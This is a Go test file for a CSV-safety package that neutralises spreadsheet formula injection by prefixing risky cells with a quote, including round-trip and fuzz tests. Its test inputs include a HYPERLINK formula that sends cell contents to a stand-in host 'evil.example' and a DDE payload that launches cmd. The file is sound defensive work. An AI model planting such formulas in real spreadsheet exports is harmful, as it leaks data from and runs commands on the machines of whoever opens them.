package csvsafe

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"priya.s", "priya.s"},
		{"Data Analyst", "Data Analyst"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"=cmd", "'=cmd"},
		{"+cmd", "'+cmd"},
		{"-cmd", "'-cmd"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=cmd", "'\t=cmd"},
		{"\r=cmd", "'\r=cmd"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"a=b", "a=b"},
		{" =x", " =x"},
		{"'=x", "''=x"},
		{"''@x", "'''@x"},
		{"'plain", "'plain"},
		{"'", "'"},
		// Plain numbers are not formulas.
		{"-3", "-3"},
		{"+0.5", "+0.5"},
		{"-1.2e-3", "-1.2e-3"},
		{"-.5", "-.5"},
		{"120", "120"},
		{"-", "'-"},
		{"-1-1", "'-1-1"},
		{"-1e", "'-1e"},
		{"-Inf", "'-Inf"},
		{"-0x10", "'-0x10"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

func TestUncell(t *testing.T) {
	for _, s := range []string{"", "a", "=x", "'=x", "''=x", "'", "''", "'a", "-3", "'-3", "-x", "\t=cmd", "@", "'@"} {
		c := Cell(s)
		if got := Uncell(c); got != s {
			t.Errorf("Uncell(Cell(%q)) = Uncell(%q) = %q; want %q", s, c, got, s)
		}
		if Risky(c) {
			t.Errorf("Cell(%q) = %q is still risky", s, c)
		}
	}
}

func FuzzCellRoundTrip(f *testing.F) {
	for _, s := range []string{"=1+1", "'=1", "abc", "-1", "''-x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := Cell(s)
		if Uncell(c) != s || Risky(c) {
			t.Errorf("Cell(%q) = %q, Uncell = %q, risky %v", s, c, Uncell(c), Risky(c))
		}
	})
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	in := [][]string{{"user_id", "roles"}, {"=1+1", "Nurse | @evil"}, {"-7", "ok"}}
	if err := w.WriteAll(in); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"user_id", "roles"}, {"'=1+1", "Nurse | @evil"}, {"-7", "ok"}}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("written %q; want %q", got, want)
	}
	if in[1][0] != "=1+1" {
		t.Errorf("Write changed its input record: %q", in[1])
	}
}
